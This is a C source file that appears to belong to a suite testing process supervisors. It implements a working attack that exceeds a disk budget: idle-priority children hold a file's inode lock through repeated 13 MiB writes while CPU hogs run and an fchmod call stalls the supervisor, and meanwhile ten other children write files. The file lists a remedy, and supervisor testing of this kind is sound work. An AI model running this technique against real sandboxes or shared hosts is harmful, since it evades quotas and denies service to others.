// SPDX-License-Identifier: MIT
/*
 * busy-supervisor.c - who watches the disk waits for a lock.
 *
 * Goal:  more bytes on disk than the budget.
 * Means: two children of the least priority write into one file again and again, 13 MiB at a time,
 *        and its inode is locked meanwhile; others hog the processors, so that this lasts. Who
 * changes the file's mode in the program's place waits in the same queue, in the kernel, and looks
 * at no disk; ten more children, who were waiting, write their files.
 */
#include "attacks/attack.h"

#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

enum { QUEUE = 2, HOGS = 8, FILES = 10, MIB = 13, SECONDS = 4 };

static char *block;
static int first[2], second[2];

static _Noreturn void pour(int fd, int gate, bool again)
{
	time_t end = time(NULL) + SECONDS;
	char byte;

	while (read(gate, &byte, 1) < 0)
		continue;
	if (again)
		sched_setscheduler(0, SCHED_IDLE, &(struct sched_param){ 0 });
	do
		if (pwrite(fd, block, MIB << 20, 0) < 0)
			_exit(errno);
	while (again && time(NULL) < end);
	sleep(2);
	_exit(0);
}

static int start(const char *name, int gate[2], int children, bool again)
{
	int fd = open(name, O_WRONLY | O_CREAT | O_CLOEXEC, 0600);

	for (int i = 0; fd >= 0 && i < children; i++) {
		pid_t child = fork();

		if (child < 0)
			return -1;
		if (child == 0) {
			close(first[1]);
			close(second[1]);
			pour(fd, gate[0], again);
		}
	}
	return fd;
}

static enum claim run(const struct brief *b)
{
	const char *dir = getenv("TMPDIR");
	int held;
	char name[16];

	block = mmap(NULL, MIB << 20, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (block == MAP_FAILED || chdir(dir ? dir : "/tmp") || pipe(first) || pipe(second))
		return failed("pipe");
	for (size_t at = 0; at < MIB << 20; at += 4096)
		block[at] = 'x';
	attempting(b);
	held = start("held", first, QUEUE, true);
	if (held < 0)
		return denied("fork");
	for (int i = 0; i < FILES; i++) {
		snprintf(name, sizeof(name), "part-%d", i);
		if (start(name, second, 1, false) < 0)
			return denied("fork");
	}
	usleep(100000); /* all of them are at their gates */
	close(first[1]);
	usleep(20000); /* the lock is held */
	for (int i = 0; i < HOGS; i++)
		if (fork() == 0) {
			time_t end = time(NULL) + SECONDS;

			close(second[1]);
			while (time(NULL) < end)
				continue;
			_exit(0);
		}
	usleep(100000);
	if (fork() == 0) {
		close(second[1]);
		for (int i = 0; i < 1000; i++)
			fchmod(held, 0600);
		_exit(0);
	}
	usleep(20000); /* and waited for */
	close(second[1]);
	return hold();
}

const struct attack attack = {
	.effect = "more bytes on disk than the budget",
	.means = "fchmod(2) of a file that is always being written to, while other files grow",
	.oracle = "usage:disk",
	.attack_id = "T1499.001, CWE-400, CWE-833",
	.remedy = "a watch in a process or thread that waits for nothing of the program's; a quota",
	.refs = (const char *const[]){ "seccomp_unotify(2)", NULL },
	.run = run,
};
